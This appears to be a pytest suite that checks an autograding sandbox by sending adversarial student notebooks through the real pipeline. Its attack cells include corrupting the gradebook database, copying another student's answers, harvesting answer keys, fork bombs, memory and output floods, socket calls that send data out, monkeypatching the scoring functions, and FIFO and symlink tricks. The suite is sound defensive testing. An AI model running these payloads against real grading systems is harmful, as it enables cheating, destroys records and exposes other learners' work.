"""Attacks on grading, submitted as real notebooks through the real pipeline (fetch, submit,
collect, congvu grade). Each is contained, scored as nbgrader scores a failing cell, and gets a
status; other learners' gradebook rows are untouched. Runs as root with namespaces (CI does)."""
import hashlib
import os
import socket
import sqlite3
import subprocess
import threading
import time

import nbformat
import pytest

from grading import columns as C
from grading.course import exchange as learners
from grading.course import gradebook
from grading.engine import batch as autograde
from grading.engine import sandbox, worker
from grading.engine.sandbox import Limits
from grading.learner.checks import parse_calls

pytestmark = [pytest.mark.kernel, pytest.mark.root]
RIGHT = {"c1": "C", "c2": ["A", "B"], "c3": False}
WRONG = {"c1": "A", "c2": ["C"], "c3": True}
LIMITS = Limits(wall_seconds=8, cpu_seconds=10, memory_mb=300, processes=48, output_kb=256,
                check_seconds=5)  # under the wall limit: A_fifo's stuck check is check_timeout


def attacks(root: str, port: int) -> dict[str, str]:
    """Learner id -> code the learner adds as a new cell right after the import cell."""
    keys = ("import json, re, glob\n"
            "text = ''\n"
            f"for p in [{root!r} + '/source/mini/mini.ipynb', 'mini.ipynb',\n"
            f"          {root!r} + '/autograded/A_keys/mini/mini.ipynb',\n"
            "          '../../../source/mini/mini.ipynb'] + glob.glob('/*/*/*.ipynb'):\n"
            "    try: text += open(p).read()\n"
            "    except OSError: pass\n"
            "found = dict(re.findall(r'score\\(\\\\\"(c\\d)\\\\\", (.+?)\\)', text))\n"
            "json.dump({k: json.loads(v.replace(\"'\", '\"')) for k, v in found.items()},\n"
            "          open('cau_tra_loi.json', 'w'))\n")
    return {
        "A_gradebook": (f"for p in ['../../../gradebook.db', {root!r} + '/gradebook.db']:\n"
                        "    try:\n"
                        "        open(p, 'r+b').write(b'SQLite format 3\\x00' + b'\\xff' * 4096)\n"
                        "    except OSError as e:\n"
                        "        print('blocked', e)\n"),
        "A_neighbour": (f"data = open({root!r} + '/submitted/H_full/mini/cau_tra_loi.json').read()\n"
                        "open('cau_tra_loi.json', 'w').write(data)\n"),
        "A_keys": keys,
        "A_loop": "while True:\n    pass\n",
        "A_stubborn": ("import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                       "while True:\n    time.sleep(0.1)\n"),
        "A_memory": "hog = []\nwhile True:\n    hog.append(bytearray(50_000_000))\n",
        "A_fork": ("import os, time\nfor _ in range(10_000):\n    if os.fork() == 0:\n"
                   "        time.sleep(300)\n        os._exit(0)\n"),
        "A_print": "for _ in range(10_000):\n    print('x' * 100_000, flush=True)\n",
        "A_print_big": "print('x' * 1_000_000_000)\n",
        "A_socket": ("import socket\n"
                     f"for host in [('127.0.0.1', {port}), ('10.0.2.2', 80), ('1.1.1.1', 53)]:\n"
                     "    try:\n"
                     "        socket.create_connection(host, timeout=1).sendall(b'leak')\n"
                     "    except OSError as e:\n"
                     "        print('blocked', host, e)\n"),
        "A_patch": ("import sys, builtins, grading.answers as ga, grading.items as gi\n"
                    "ok = lambda *a, **k: print('Đúng.')\n"
                    "ga.score = gi.score = cv.score = ok\n"
                    "ga.same = lambda *a: True\n"
                    "sys.stderr = sys.stdout\n"
                    "get_ipython().events.register('pre_run_cell', lambda *a: None)\n"
                    "get_ipython().run_cell = lambda *a, **k: None\n"
                    "import os; os.makedirs('grading', exist_ok=True)\n"
                    "open('grading/__init__.py', 'w').write('')\n"
                    "open('grading/answers.py', 'w').write('def score(*a, **k): print(\"Đúng.\")')\n"
                    "try:\n"
                    "    open(ga.__file__, 'a').write('\\nscore = lambda *a, **k: print(\"Đúng.\")')\n"
                    "except OSError as e:\n"
                    "    print('blocked', e)\n"),
        "A_died": "import os\nos._exit(3)\n",  # the kernel ends itself: kernel_died
        # the answers file becomes a FIFO (the kernel's own readers patched away first): the
        # check reading it in the supervisor waits forever: check_timeout
        "A_fifo": ("import os, grading.learner.items as gi\n"
                   "gi.answer = lambda *a, **k: None\n"
                   "os.remove('cau_tra_loi.json')\nos.mkfifo('cau_tra_loi.json')\n"),
        "A_corrupt": "x = 1\n",  # submits a broken answers file (below): corrupt_answers
        "A_symlink": ("import os\nos.remove('cau_tra_loi.json')\n"
                      f"os.symlink({root!r} + '/submitted/H_full/mini/cau_tra_loi.json', "
                      "'cau_tra_loi.json')\n"),
    }


def _add_cell(folder, code: str) -> None:
    path = folder / "mini.ipynb"
    nb = nbformat.read(str(path), as_version=4)
    nb.cells.insert(2, nbformat.v4.new_code_cell(code))
    nbformat.write(nb, str(path))


def _tamper(folder) -> None:
    path = folder / "mini.ipynb"
    nb = nbformat.read(str(path), as_version=4)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "c1":
            cell.source = "print('Đúng.')"
            cell.metadata.nbgrader["points"] = 100
    nbformat.write(nb, str(path))


def _rows_digest(root, learners_: list[str]) -> str:
    from conftest import grade_rows

    return hashlib.sha256(repr(grade_rows(root, learners_)).encode()).hexdigest()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    from conftest import MINI

    from grading.course import workspace as W

    ok, why = sandbox.available()
    if not ok:
        if os.environ.get("CI"):
            pytest.fail(f"sandbox unavailable in CI: {why}")
        pytest.skip(why)
    tmp = tmp_path_factory.mktemp("attacks")
    ws = W.init(directory=tmp / "ws", manifest_path=MINI, timeout=3)
    W.release(ws)
    home = tmp / "homes"
    learners.submit_cohort(ws, home, "mini", {"H_full": RIGHT, "H_part": {**RIGHT, "c1": "B"}})
    autograde.collect(ws, "mini")
    first = autograde.grade(workspace=ws, assignment="mini", jobs=2, progress=False,
                            sandbox=True, limits=LIMITS)
    honest = ["H_full", "H_part"]
    before = _rows_digest(ws.root, honest)

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.5)
    hits = []

    def accept():
        while listener.fileno() != -1:
            try:
                hits.append(listener.accept())
            except OSError:
                if listener.fileno() == -1:
                    return
    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    code = attacks(str(ws.root), listener.getsockname()[1])
    for learner, cell in code.items():
        folder = learners.fetch(ws, home / learner, "mini", learner)
        learners.answer(folder, WRONG)
        _add_cell(folder, cell)
        if learner == "A_corrupt":
            (folder / "cau_tra_loi.json").write_text('{"c1": "A", ', encoding="utf-8")
        learners.submit(ws, home / learner, "mini", learner)
    folder = learners.fetch(ws, home / "A_tamper", "mini", "A_tamper")
    learners.answer(folder, WRONG)
    _tamper(folder)
    learners.submit(ws, home / "A_tamper", "mini", "A_tamper")
    autograde.collect(ws, "mini")
    attackers = [*code, "A_tamper"]
    second = autograde.grade(workspace=ws, assignment="mini", jobs=2, progress=False,
                             sandbox=True, limits=LIMITS, learners=attackers)
    listener.close()
    after = _rows_digest(ws.root, honest)
    yield ws, first, second.set_index(C.LEARNER), before, after, hits


def test_honest_learners_graded_first(attacked):
    _, first, *_ = attacked
    assert set(first[C.STATUS]) == {"graded"}


def test_other_learners_rows_unchanged_and_gradebook_intact(attacked):
    ws, _, _, before, after, _ = attacked
    assert before == after
    con = sqlite3.connect(str(ws.root / "gradebook.db"))
    assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    con.close()


def test_no_attack_raises_a_score(attacked):
    ws, _, second, *_ = attacked
    grades = gradebook.read_grades(ws.db_url)
    auto = grades[grades[C.ITEM].isin(["c1", "c2", "c3"])]
    per = auto.groupby(C.LEARNER)[C.SCORE].sum()
    for learner in second.index:
        assert per.get(learner, 0.0) == 0.0, learner  # every attacker answered all wrong
    assert per["H_full"] == 3.0 and per["H_part"] == 2.0


def test_each_attack_has_a_status_and_a_reason(attacked):
    _, _, second, *_ = attacked
    st = second[C.STATUS].to_dict()
    assert st["A_loop"] == "timeout" and st["A_stubborn"] == "timeout"
    assert st["A_memory"] == "memory"
    assert st["A_print"] == "output"
    assert st["A_print_big"] in ("output", "memory")
    assert st["A_tamper"] == "tampered"
    assert st["A_died"] == "kernel_died" and st["A_fifo"] == "check_timeout"
    assert st["A_corrupt"] == "corrupt_answers"
    assert "hỏng" in second.loc["A_corrupt", C.REASON]
    assert "c1" in second.loc["A_tamper", C.REASON]
    for learner in ("A_gradebook", "A_neighbour", "A_keys", "A_socket", "A_patch",
                    "A_symlink", "A_fork"):
        assert st[learner] in ("graded", "timeout"), (learner, second.loc[learner, C.REASON])
    for learner in ("A_loop", "A_memory", "A_print", "A_print_big", "A_died", "A_fifo"):
        assert second.loc[learner, C.REASON]


def test_no_network_and_nothing_left_running(attacked):
    *_, hits = attacked
    assert hits == []
    time.sleep(2)  # sandboxes of other graders on this machine live well under 5 s
    uids = ",".join(str(sandbox.UID_BASE + i) for i in range(2 * worker.SLOTS))
    out = subprocess.run(["ps", "-o", "pid=,etimes=", "-u", uids], capture_output=True,
                         text=True).stdout.split("\n")
    old = [line for line in out if line.split() and int(line.split()[1]) > 5]
    assert old == [], "learner processes outlived their sandbox (fork bomb children?)"


def test_sandbox_view_is_empty_of_course_files(attacked, tmp_path):
    ws, *_ = attacked
    nb = nbformat.read(str(ws.root / "autograded/A_gradebook/mini/mini.ipynb"), as_version=4)
    text = "".join(o.get("text", "") for c in nb.cells if c.cell_type == "code"
                   for o in c.outputs)
    assert text.count("blocked") == 2  # both paths to the gradebook are absent


def test_check_cells_are_parsed_only_when_pure_literal_calls():
    known = {"score", "folders"}
    assert parse_calls('# x\ncv.score("c1", "B")', known) == [("score", ["c1", "B"], {})]
    assert parse_calls('cv.score("c1", key)', known) is None
    assert parse_calls('import os\ncv.score("c1", "B")', known) is None
    assert parse_calls('cv.other("c1")', known) is None
    assert parse_calls('a.b.score("c1", "B")', known) is None
